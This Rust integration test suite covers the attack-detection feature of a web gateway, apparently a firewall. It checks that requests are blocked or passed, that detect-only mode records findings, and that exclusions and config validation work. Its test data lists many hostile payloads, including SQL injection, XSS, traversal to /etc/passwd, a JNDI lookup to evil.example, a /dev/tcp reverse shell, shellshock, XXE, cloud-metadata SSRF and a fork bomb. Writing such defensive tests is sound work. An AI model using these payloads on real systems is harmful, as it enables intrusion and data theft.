//! Attack detection through the real proxy: attacks in each part of a request are refused with a
//! 403 problem that never repeats the payload; harmless look-alikes pass; detection-only mode lets
//! attacks through and records them; exclusions and per-route settings apply.

mod common;

use common::*;
use http::{Request, StatusCode};

/// A request of the given method, path, headers and body.
fn request(
    gw: &warden_gateway::Gateway,
    method: &str,
    path: &str,
    headers: &[(&str, &str)],
    body: &str,
) -> Request<warden_gateway::body::GatewayBody> {
    let mut req = Request::builder().method(method).uri(url(gw, path));
    for (k, v) in headers {
        req = req.header(*k, *v);
    }
    let body = if body.is_empty() {
        empty()
    } else {
        warden_gateway::body::full(bytes::Bytes::from(body.to_string()))
    };
    req.body(body).unwrap()
}

const JSON: (&str, &str) = ("content-type", "application/json");
const FORM: (&str, &str) = ("content-type", "application/x-www-form-urlencoded");
const XML: (&str, &str) = ("content-type", "application/xml");

/// (what, method, path, headers, body).
type Case = (&'static str, &'static str, String, Headers, String);
type Headers = Vec<(&'static str, &'static str)>;

/// One attack in each place a client controls.
fn attacks() -> Vec<Case> {
    vec![
        ("sqli in query", "GET", "/search?q=1%27%20OR%20%271%27%3D%271".into(), vec![], String::new()),
        ("xss in query, double-encoded", "GET", "/search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E".into(), vec![], String::new()),
        ("traversal in query", "GET", "/download?file=..%2f..%2f..%2fetc%2fpasswd".into(), vec![], String::new()),
        ("traversal in path", "GET", "/static/....//....//....//etc/passwd".into(), vec![], String::new()),
        ("remote include of a script on a bare address", "GET", "/thumb?src=http://66.240.183.75/crash.php".into(), vec![], String::new()),
        ("sqli in a path segment", "GET", "/users/1%20union%20select%20password%20from%20users--".into(), vec![], String::new()),
        ("jndi in user-agent", "GET", "/".into(), vec![("user-agent", "${jndi:ldap://evil.example/a}")], String::new()),
        ("cmdi in a header", "GET", "/".into(), vec![("x-forwarded-host", "a.example; cat /etc/passwd")], String::new()),
        ("sqli in cookie", "GET", "/".into(), vec![("cookie", "session=abc; pref=1' or '1'='1")], String::new()),
        ("xss in JSON", "POST", "/comments".into(), vec![JSON], r#"{"post":7,"comment":"<img src=x onerror=alert(document.cookie)>"}"#.into()),
        ("nosql operator in JSON", "POST", "/login".into(), vec![JSON], r#"{"user":"admin","password":{"$ne":null}}"#.into()),
        ("ssrf to cloud metadata in JSON", "POST", "/webhooks".into(), vec![JSON], r#"{"url":"http://169.254.169.254/latest/meta-data/iam/"}"#.into()),
        ("ssrf with a decimal IP in JSON", "POST", "/fetch".into(), vec![JSON], r#"{"target":"http://2130706433:8080/admin"}"#.into()),
        ("ssti in JSON", "POST", "/render".into(), vec![JSON], r#"{"name":"{{ ''.__class__.__mro__[1].__subclasses__() }}"}"#.into()),
        ("cmdi in form", "POST", "/ping".into(), vec![FORM], "host=8.8.8.8%3Bcat+%2Fetc%2Fpasswd".into()),
        ("reverse shell in user-agent, no separator", "GET", "/".into(), vec![("user-agent", "/bin/bash -c \"sh -i>& /dev/tcp/172.17.0.1/54321 0>&1\"")], String::new()),
        ("shellshock in a header", "GET", "/".into(), vec![("x-test", "() { :; }; echo vulnerable")], String::new()),
        ("command disguised by quotes in query", "GET", "/run?cmd=%27wh%27oami".into(), vec![], String::new()),
        ("mail command after a line break in form", "POST", "/contact".into(), vec![FORM], "textarea=%0D%0AMAIL%20FROM%3A%3Cspam%40evil.example%3E".into()),
        ("sqli in form", "POST", "/login".into(), vec![FORM], "user=admin%27--&pass=x".into()),
        ("sqli with null bytes for spaces in query", "GET", "/items?id=1%00UNION%00SELECT%002--".into(), vec![], String::new()),
        ("sqli with a stray 0xA0 byte for spaces in query", "GET", "/items?id=1%A0UNION%A0SELECT%A02--".into(), vec![], String::new()),
        ("blind sqli by function calls in query", "GET", "/items?id=23698%20and((ascii(substring(user(),1,1)))%3E1)".into(), vec![], String::new()),
        ("xxe in XML", "POST", "/import".into(), vec![XML], r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#.into()),
        ("sqli in JSON sent as text/plain", "POST", "/notes".into(), vec![("content-type", "text/plain")], "x' UNION SELECT username, password FROM users--".into()),
        ("ldap filter injection in query", "GET", "/users?uid=admin)(%7C(password%3D*".into(), vec![], String::new()),
        ("fork bomb in form", "POST", "/run".into(), vec![FORM], "cmd=%3A%28%29%7B+%3A%7C%3A%26+%7D%3B%3A".into()),
        ("ssrf to the container host without a scheme in JSON", "POST", "/webhooks".into(), vec![JSON], r#"{"callback":"host.docker.internal:2375/containers/json"}"#.into()),
        ("a form body typed with a boundary for another parser", "POST", "/login".into(), vec![("content-type", "application/x-www-form-urlencoded;boundary=\"application/json\"")], "user=a".into()),
        ("a request line smuggled in query", "GET", "/go?next=GET%20http%3A%2F%2Fwww.foo.bar%20HTTP%2F1.1".into(), vec![], String::new()),
        ("jsfuck in form", "POST", "/comments".into(), vec![FORM], "a=(![]%2B[])[%2B!%2B[]]".into()),
        ("script reaching a global by bracket, comments between, in query", "GET", "/s?a=self%5B%2F%2Afoo%2A%2F%22alert%22%5D%28self%5B%22document%22%2F%2Abar%2A%2F%5D%5B%22cookie%22%5D%29".into(), vec![], String::new()),
        ("an ORM lookup that guesses a password in query", "GET", "/users?password__startswith=a".into(), vec![], String::new()),
        ("perl interpolation with spaces in query", "GET", "/q?x=%40%7B%20%20%5B%20system%20%22id%22%20%5D%20%7D".into(), vec![], String::new()),
        ("a template engine probe in query", "GET", "/greet?name=%7B%7B7*7%7D%7D".into(), vec![], String::new()),
        ("php calling through a variable in query", "GET", "/q?x=%24%7B%27sys%27.%27tem%27%7D%28%27id%27%29".into(), vec![], String::new()),
        ("php call with a comment before its parenthesis in query", "GET", "/q?foo=exec%2f%2acomment%2a%2f%28%27id%27%29".into(), vec![], String::new()),
        ("a php session file uploaded by name", "PUT", "/upload".into(), vec![("x-filename", "sess_d8ew88tqmabdcokhumchy8htqm")], "x".into()),
        ("a java gadget chain in base64 in a cookie", "GET", "/".into(), vec![("cookie", "state=AQJvcmcuYXBhY2hlLmNvbW1vbnMuY29sbGVjdGlvbnMuZnVuY3RvcnMuSW52b2tlclRyYW5zZm9ybWVy")], String::new()),
        ("a java type name for a polymorphic deserialiser in JSON", "POST", "/import".into(), vec![JSON], r#"{"@type":"java.lang.Runtime"}"#.into()),
        ("a blind sqli fragment in form", "POST", "/items".into(), vec![FORM], "filter=AND+2771%3D1709%29".into()),
        ("quotes around an operator in query", "GET", "/items?name=x%27%20OR%20%27y".into(), vec![], String::new()),
        ("the head of a sql call in form", "POST", "/items".into(), vec![FORM], "sort=floor%28".into()),
        ("a command line in user-agent", "GET", "/".into(), vec![("user-agent", "ansible all -m ping")], String::new()),
        ("a php callable expression in query", "GET", "/q?x=%5bsystem%5d%5b0%5d%28ls%29%3B".into(), vec![], String::new()),
        ("a php.ini setting in form", "POST", "/settings".into(), vec![FORM], "v=allow_url_include%3D1".into()),
        ("java serialisation magic in base64 at an offset in JSON", "POST", "/import".into(), vec![JSON], r#"{"blob":"KztAAUc3IAEWphdmE"}"#.into()),
        ("dangling markup left open in query", "GET", "/q?ref=%3Cimg%20src%3D%27".into(), vec![], String::new()),
        ("a node console probe in a header", "GET", "/".into(), vec![("x-debug", "console.info(1)")], String::new()),
        ("a batch comparison in query", "GET", "/run?foo=IF+%22%251%22%3D%3D%22%2F%3F%22+...".into(), vec![], String::new()),
        ("a whole pair encoded into a form name", "POST", "/items".into(), vec![FORM], "pay%3DAND+2771%3D1709%29".into()),
        ("a table definition in query", "GET", "/q?sql=ALTER%20TABLE%20%60users%60%20ADD%20%60admin%60%20INT".into(), vec![], String::new()),
        ("a form sent as text/plain with a java type name", "POST", "/import".into(), vec![("content-type", "text/plain")], "type=java.lang.String".into()),
    ]
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attacks_in_every_part_of_a_request_are_refused_without_echo() {
    let up = upstream().await;
    let gw = start(&config_text(up.addr, BASIC)).await;
    let client = h1_client();
    for (what, method, path, headers, body) in attacks() {
        let (s, h, b) = send(&client, request(&gw, method, &path, &headers, &body)).await;
        let doc = assert_problem(s, &h, &b, 403, "forbidden");
        assert_eq!(doc["reason"], "attack-detected", "{what}");
        let text = String::from_utf8_lossy(&b).to_lowercase();
        for echo in [
            "passwd",
            "<script",
            "ldap:",
            "union",
            "169.254",
            "$ne",
            "doctype",
            "onerror",
            "1=1",
            "crash.php",
        ] {
            assert!(
                !text.contains(echo),
                "{what}: the answer echoes `{echo}`: {text}"
            );
        }
    }
    assert_eq!(
        up.hits.load(std::sync::atomic::Ordering::SeqCst),
        0,
        "no attack reached the upstream"
    );
    // Clean header values are remembered per worker; an attack in the same header never is.
    let ua = [(
        "user-agent",
        "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/133.0",
    )];
    let jndi = [("user-agent", "${jndi:ldap://evil.example/a}")];
    for _ in 0..3 {
        assert_eq!(
            send(&client, request(&gw, "GET", "/", &ua, "")).await.0,
            StatusCode::OK
        );
        assert_eq!(
            send(&client, request(&gw, "GET", "/", &jndi, "")).await.0,
            StatusCode::FORBIDDEN
        );
    }
    // The same over HTTP/2 (h2c), where bodies come without a length.
    let (what, method, path, headers, body) = attacks().swap_remove(7);
    let (s, _, _) = send(&h2c_client(), request(&gw, method, &path, &headers, &body)).await;
    assert_eq!(s, StatusCode::FORBIDDEN, "{what} over h2");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn harmless_look_alikes_pass() {
    let up = upstream().await;
    let gw = start(&config_text(up.addr, BASIC)).await;
    let client = h1_client();
    let harmless: Vec<(&str, &str, Headers, String)> = vec![
        ("GET", "/search?q=O%27Brien&sort=name", vec![], String::new()),
        ("GET", "/search?q=time%20flies%3B%20I%27d%20say%20if%20a%20%3D%3D%20b%20then%20echo", vec![], String::new()),
        ("POST", "/contact", vec![FORM], "message=Dear+team%2C%0D%0AData+is+attached.%0D%0AList+of+items+follows".into()),
        ("GET", "/thumb?src=http://203.0.113.7/images/logo.png", vec![], String::new()),
        ("GET", "/search?q=select%20the%20best%20union%20plan", vec![], String::new()),
        ("GET", "/docs/getting-started/index.html", vec![("user-agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537.36")], String::new()),
        ("POST", "/comments", vec![JSON], r#"{"comment":"I'd drop the table from the living room -- too big. Select a smaller one?","rating":4}"#.into()),
        ("POST", "/profiles", vec![JSON], r#"{"name":"Zoë O'Brien","bio":"Writes about <b>HTML</b> & C++; e-mail me at zoe@example.com","website":"https://zoe.example.com/blog?tag=rust&page=2"}"#.into()),
        ("POST", "/snippets", vec![JSON], r#"{"lang":"markdown","text":"Use `ls -la` to list files, then `cd ..` to go up.\n\n* item one\n* item two"}"#.into()),
        ("POST", "/orders", vec![FORM], "item=SKU-4711&qty=2&note=Leave+it+at+the+door%2C+please".into()),
        ("POST", "/upload", vec![("content-type", "application/octet-stream")], "<script>binary-looking but not inspected</script>".into()),
        ("POST", "/directory/search", vec![JSON], r#"{"filter":"(&(objectClass=user)(|(cn=Ann*)(sn=Lee*)))"}"#.into()),
        ("POST", "/docs", vec![JSON], r#"{"text":"![](https://example.com/a.png) then while (i < n) { i++; }","path":"metadata/v1/items"}"#.into()),
        ("GET", "/firewall/rules?cidr=10.0.0.0%2F8&repo=kubernetes%2Fkubernetes", vec![], String::new()),
        ("GET", "/pay?note=Please%20pay%20%24amount%20(see%20invoice)", vec![], String::new()),
        ("GET", "/posts?created__gte=2024-01-01&author__name__startswith=Ann&device__token=t1", vec![], String::new()),
        ("POST", "/lambda", vec![JSON], r#"{"zip":"eyJydW50aW1lIjoibm9kZWpzMjAueCIsImhhbmRsZXIiOiJpbmRleC5oYW5kbGVyIn0="}"#.into()),
        ("POST", "/errors", vec![JSON], r#"{"trace":"java.lang.IllegalStateException: closed at com.example.Pool.get(Pool.java:88)"}"#.into()),
        ("GET", "/search?q=Say%20%27hi%27%20or%20%27bye%27&price=or%20best%20offer&limit=Max%20(2%20per%20order)", vec![], String::new()),
        ("GET", "/search?q=drop%20table%20lamp&when=Select%20a%20date&n=1%20%3D%20one", vec![], String::new()),
        ("GET", "/search?q=ls%20-la%20shows%20hidden%20files", vec![("user-agent", "curl/8.5.0")], String::new()),
        ("POST", "/notes", vec![("content-type", "text/plain")], "Remember: total = price * qty".into()),
    ];
    for (method, path, headers, body) in harmless {
        let (s, _, b) = send(&client, request(&gw, method, path, &headers, &body)).await;
        assert_eq!(
            s,
            StatusCode::OK,
            "{method} {path} {body}: {}",
            String::from_utf8_lossy(&b)
        );
    }
    // A body that was read for inspection still reaches the upstream intact.
    let body = r#"{"comment":"Ünïcödé and emoji 😀 stay as sent"}"#;
    let (s, _, b) = send(&client, request(&gw, "POST", "/upload", &[JSON], body)).await;
    assert_eq!(s, StatusCode::OK);
    assert_eq!(b, body.as_bytes());
}

async fn metrics(gw: &warden_gateway::Gateway) -> String {
    let admin = gw.admin_addr().unwrap();
    let req = Request::get(format!("http://{admin}/metrics"))
        .body(empty())
        .unwrap();
    String::from_utf8_lossy(&send(&h1_client(), req).await.2).into_owned()
}

fn finding_count(metrics: &str, route: &str, kind: &str, action: &str) -> u64 {
    let key = format!(
        "warden_findings_total{{route=\"{route}\",check=\"attack_detection\",kind=\"{kind}\",action=\"{action}\"}} "
    );
    metrics
        .lines()
        .find_map(|l| l.strip_prefix(&key))
        .map_or(0, |n| n.trim().parse().unwrap())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn detection_only_mode_passes_attacks_and_records_them() {
    let up = upstream().await;
    let gw = start(&config_text(
        up.addr,
        &format!("{BASIC}attack_detection:\n  mode: detect\n"),
    ))
    .await;
    let client = h1_client();
    let n = attacks().len();
    for (what, method, path, headers, body) in attacks() {
        let (s, _, _) = send(&client, request(&gw, method, &path, &headers, &body)).await;
        assert_eq!(s, StatusCode::OK, "{what}");
    }
    assert_eq!(up.hits.load(std::sync::atomic::Ordering::SeqCst), n);
    let m = metrics(&gw).await;
    for kind in [
        "sqli",
        "xss",
        "traversal",
        "jndi",
        "cmdi",
        "nosql",
        "ssrf",
        "ssti",
        "xxe",
    ] {
        assert!(
            finding_count(&m, "main", kind, "detect") >= 1,
            "{kind} recorded: {m}"
        );
    }
    assert!(!m.contains("action=\"block\""));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exclusions_and_route_settings_apply() {
    let up = upstream().await;
    let gw = start(&config_text(
        up.addr,
        "upstreams:\n  stub:\n    targets: [\"http://UP\"]\nroutes:\n\
         \x20 - {name: reports, path_prefix: /reports, upstream: stub}\n\
         \x20 - {name: tuning, path_prefix: /tuning, upstream: stub, attack_detection: {mode: detect}}\n\
         \x20 - {name: open, path_prefix: /open, upstream: stub, attack_detection: {mode: off}}\n\
         \x20 - {name: main, path_prefix: /, upstream: stub}\n\
         attack_detection:\n  exclusions:\n\
         \x20   - {detectors: [sqli], fields: [body.query], routes: [reports]}\n",
    ))
    .await;
    let client = h1_client();
    let sql = r#"{"query":"SELECT name FROM users WHERE id = 1 OR 1=1"}"#;
    let status = |path: &'static str, body: &'static str| {
        let req = request(&gw, "POST", path, &[JSON], body);
        let client = client.clone();
        async move { send(&client, req).await.0 }
    };
    // The excluded field on its route passes; the same field elsewhere, or another detector on
    // it, is still refused.
    assert_eq!(status("/reports/run", sql).await, StatusCode::OK);
    assert_eq!(status("/orders", sql).await, StatusCode::FORBIDDEN);
    assert_eq!(
        status("/reports/run", r#"{"query":"<script>alert(1)</script>"}"#).await,
        StatusCode::FORBIDDEN
    );
    assert_eq!(
        status("/reports/run", r#"{"other":"1' OR '1'='1"}"#).await,
        StatusCode::FORBIDDEN
    );
    assert_eq!(status("/tuning/x", sql).await, StatusCode::OK);
    assert_eq!(status("/open/x", sql).await, StatusCode::OK);
    let m = metrics(&gw).await;
    assert_eq!(finding_count(&m, "tuning", "sqli", "detect"), 1);
    assert_eq!(finding_count(&m, "open", "sqli", "detect"), 0);
    assert!(finding_count(&m, "main", "sqli", "block") >= 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn compressed_or_oversized_requests_follow_the_budget_policy() {
    let up = upstream().await;
    let text = |policy: &str| {
        config_text(
            up.addr,
            &format!(
                "{BASIC}attack_detection:\n  max_inspect_bytes: 4KiB\n  beyond_budget: {policy}\n"
            ),
        )
    };
    let padded = format!(
        r#"{{"pad":"{}","comment":"1' OR '1'='1"}}"#,
        "a".repeat(8000)
    );
    let gzip = [JSON, ("content-encoding", "gzip")];
    for (policy, want) in [("pass", StatusCode::OK), ("block", StatusCode::FORBIDDEN)] {
        let gw = start(&text(policy)).await;
        let (s, _, _) = send(
            &h1_client(),
            request(&gw, "POST", "/upload", &[JSON], &padded),
        )
        .await;
        assert_eq!(s, want, "payload past the budget, {policy}");
        let (s, _, _) = send(
            &h1_client(),
            request(&gw, "POST", "/upload", &gzip, "not really gzip"),
        )
        .await;
        assert_eq!(s, want, "compressed body, {policy}");
        let m = metrics(&gw).await;
        let action = if policy == "pass" { "pass" } else { "block" };
        assert_eq!(finding_count(&m, "main", "not-inspected", action), 2, "{m}");
    }
}

#[test]
fn bad_detection_settings_are_refused_at_load() {
    let up: std::net::SocketAddr = "127.0.0.1:9".parse().unwrap();
    for (extra, field, says) in [
        ("attack_detection:\n  paranoia: 5\n", "attack_detection.paranoia", "1, 2, 3 or 4"),
        ("attack_detection:\n  mode: loud\n", "", "unknown variant"),
        ("attack_detection:\n  exclusions:\n    - {detectors: [sqlx], fields: [q]}\n", "", "unknown detector `sqlx`"),
        ("attack_detection:\n  exclusions:\n    - {detectors: [sqli], fields: [q], routes: [nope]}\n", "attack_detection.exclusions[0].routes", "no route is named `nope`"),
        ("attack_detection:\n  threshold: 0\n", "attack_detection.threshold", "at least 1"),
    ] {
        let text = config_text(up, &format!("{BASIC}{extra}"));
        let err = warden_gateway::config::Config::parse(&text, std::path::Path::new("w.yaml"))
            .expect_err(extra)
            .to_string();
        assert!(err.contains(says), "{extra}: {err}");
        assert!(err.contains(field), "{extra}: {err}");
        assert!(err.starts_with("w.yaml:"), "{extra}: names the file and line: {err}");
    }
}
